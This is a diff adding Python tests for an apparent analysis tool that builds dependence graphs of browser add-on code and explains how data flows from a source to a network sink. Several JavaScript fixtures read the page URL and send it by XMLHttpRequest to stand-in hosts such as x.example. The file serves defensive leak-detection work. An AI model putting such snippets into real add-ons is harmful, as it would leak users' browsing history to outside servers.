@@ -1,0 +1,89 @@
+"""Tests for flow witnesses (explain)."""
+
+import pytest
+
+from repro.api import analyze_addon, build_addon_pdg, infer_addon_signature
+from repro.signatures.explain import explain_all, explain_flow
+
+
+def pipeline(source):
+    program, result = analyze_addon(source)
+    pdg = build_addon_pdg(result)
+    detail = infer_addon_signature(result, pdg)
+    return pdg, detail
+
+
+class TestExplain:
+    def test_witness_for_explicit_flow(self):
+        pdg, detail = pipeline(
+            """
+            var u = content.location.href;
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "https://x.example/?u=" + u, true);
+            xhr.send(null);
+            """
+        )
+        entry = next(iter(detail.signature.flows))
+        witness = explain_flow(pdg, detail, entry)
+        assert witness is not None
+        assert witness.steps
+        # Starts at the source read (line 2) and ends at a sink line.
+        assert witness.lines[0] == 2
+        assert all(s.annotation.is_data for s in witness.steps)
+
+    def test_witness_for_implicit_flow_uses_control_edges(self):
+        pdg, detail = pipeline(
+            """
+            window.addEventListener("load", function (e) {
+                if (content.location.href == "secret.example") {
+                    var xhr = new XMLHttpRequest();
+                    xhr.open("GET", "https://out.example/ping", true);
+                    xhr.send(null);
+                }
+            }, false);
+            """
+        )
+        entry = next(iter(detail.signature.flows))
+        witness = explain_flow(pdg, detail, entry)
+        assert witness is not None
+        assert any(step.annotation.is_control for step in witness.steps)
+
+    def test_witness_render(self):
+        pdg, detail = pipeline(
+            """
+            var u = content.location.href;
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "https://x.example/?u=" + u, true);
+            xhr.send(null);
+            """
+        )
+        witnesses = explain_all(pdg, detail)
+        assert witnesses
+        text = witnesses[0].render()
+        assert "witness for: url" in text
+        assert "-->" in text
+
+    def test_no_witness_for_foreign_entry(self):
+        pdg, detail = pipeline("var x = 1;")
+        from repro.domains import prefix as p
+        from repro.signatures import FlowEntry, FlowType
+
+        foreign = FlowEntry("url", FlowType.TYPE1, "send", p.TOP)
+        assert explain_flow(pdg, detail, foreign) is None
+
+    def test_witness_path_is_connected(self):
+        pdg, detail = pipeline(
+            """
+            function relay(v) { return v; }
+            var u = content.location.href;
+            var hop = relay(u);
+            var xhr = new XMLHttpRequest();
+            xhr.open("GET", "https://x.example/?u=" + hop, true);
+            xhr.send(null);
+            """
+        )
+        entry = next(iter(detail.signature.flows))
+        witness = explain_flow(pdg, detail, entry)
+        assert witness is not None
+        for first, second in zip(witness.steps, witness.steps[1:]):
+            assert first.target_sid == second.source_sid
